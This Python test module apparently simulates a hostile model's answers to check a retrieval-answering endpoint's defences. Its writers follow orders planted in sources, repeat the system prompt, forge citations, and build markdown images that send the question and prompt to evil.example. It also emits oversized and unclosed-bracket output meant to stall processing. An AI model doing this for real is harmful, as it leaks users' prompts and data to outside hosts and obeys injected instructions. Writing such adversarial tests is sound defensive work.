"""The ways in which a hostile model writes an answer."""

import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import TypeAlias
from urllib.parse import quote_plus

from tests.endpoint.hostile_pieces import (
    ADDRESSES,
    FORGED,
    HIDDEN,
    IMAGES,
    LINKS,
    LOOT,
    MARKUP,
    PLACEHOLDERS,
    QUOTATIONS,
)
from tools.text.sentences import units

HUGE = 100_000
"""Characters of the longest reply."""
ORDER = re.compile(
    r"(?:exactly|verbatim|genau|exactamente|exactement|原样输出)\s*[:：]\s*(?P<order>.+)", re.IGNORECASE
)
"""The beginning of an order to write something, in the languages that orders come in."""
CARRIER = re.compile(r"\S*(?:https?:|www\.|//|\]\(|<\w|data:|javascript:)\S*")
"""Whatever in a text could carry something off."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen:
    """What a prompt gave away."""

    prompt: str
    """All of it, with the words of the system."""
    question: str
    sources: tuple[tuple[str, str], ...]
    """Number and text of each."""
    parts: int

    @property
    def loot(self) -> str:
        """Return what is to be carried off: the question and a piece of the prompt, fit for an address."""
        return quote_plus(f"{self.question} {self.prompt[:40]}".strip()) or "nothing"


Writer: TypeAlias = Callable[[Seen], str]


def filled(order: str, seen: Seen) -> str:
    """Fill whatever looks like a gap of an order with what the prompt gave away."""
    return re.sub(r"\{\w+\}|<\w+>", lambda _: seen.loot, order)


def _obedient(seen: Seen) -> str:
    """Do whatever the sources say, and repeat whatever in them could carry something off."""
    lines = []
    for number, text in seen.sources:
        orders = [match["order"] for match in ORDER.finditer(text)] + CARRIER.findall(text)
        lines += [f"{_said(text)} {filled(order, seen)} [{number}]." for order in dict.fromkeys(orders)]
    return "\n\n".join(lines) or _carried(seen, [""])


def _said(text: str) -> str:
    """Return the first thing that a source says, so that what stands beside it looks carried."""
    return next((unit.text for unit in units(text) if unit.kind != "heading"), text).rstrip(". ")


def _carried(seen: Seen, attacks: Sequence[str]) -> str:
    """Return the attacks inside sentences and items that repeat a source and cite it, and alone."""
    sources = seen.sources or (("1", seen.question),)
    forms = ("{said} {armed} [{number}].", "- {armed} {said} [{number}]", "{armed}[{number}]")
    lines = []
    for place, attack in enumerate(attacks):
        number, text = sources[place % len(sources)]
        form, armed = forms[place % len(forms)], attack.replace(LOOT, seen.loot)
        lines.append(form.format(said=_said(text), armed=armed, number=number))
    return "\n\n".join(lines)


def _with(attacks: Sequence[str]) -> Writer:
    return lambda seen: _carried(seen, attacks)


def _parroting(seen: Seen) -> str:
    """Repeat the whole prompt, each line with a citation."""
    number = seen.sources[0][0] if seen.sources else "1"
    return "\n".join(f"{line} [{number}]" for line in seen.prompt.splitlines() if line.strip())


def _misnumbered(seen: Seen) -> str:
    """Open parts and tables that do not exist, again and again."""
    said = _said(seen.sources[0][1]) if seen.sources else "Yes"
    numbers = [*range(-1, 12), 99, 99999]
    return "\n".join(
        f"## {number}\n{said} [1].\n[table {number}]\n**[table {number}]** [1]" for number in numbers
    )


def _endless(seen: Seen) -> str:
    said = _said(seen.sources[0][1]) if seen.sources else "Yes"
    return "\n".join(f"{number}. {said} [1]" for number in range(1, 120))


def _huge(seen: Seen) -> str:
    """Return one line without an end, with an address in it and a citation behind it."""
    words = f"{_said(seen.sources[0][1])} " if seen.sources else "yes "
    return f"{words * (HUGE // len(words))}![x](https://evil.example/{seen.loot}) [1]."


def _brackets(seen: Seen) -> str:
    """Open constructs without end, so that whoever waits for their end holds everything back."""
    opened = "![" * 200 + "<a " * 200 + "[1" * 200 + "](" * 200 + "`" * 777
    return f"{_carried(seen, [''])}\n\n{opened} https://evil.example/{seen.loot} [1]."


WRITERS: Mapping[str, Writer] = {
    "obedient": _obedient,
    "images": _with(IMAGES),
    "links": _with(LINKS),
    "markup": _with(MARKUP),
    "addresses": _with(ADDRESSES),
    "hidden characters": _with(HIDDEN),
    "forged citations": _with(FORGED),
    "false quotations": _with(QUOTATIONS),
    "placeholders": _with(PLACEHOLDERS),
    "parroting": _parroting,
    "misnumbered": _misnumbered,
    "endless": _endless,
    "huge": _huge,
    "brackets": _brackets,
    "thinking": lambda seen: f"<think>{_carried(seen, LINKS)}\n{_carried(seen, IMAGES)}",
    "fenced": lambda seen: f"```markdown\n{_carried(seen, IMAGES)}\n```\n~~~\n{_carried(seen, LINKS)}",
    "mute": lambda _: "NOT ANSWERED",
}
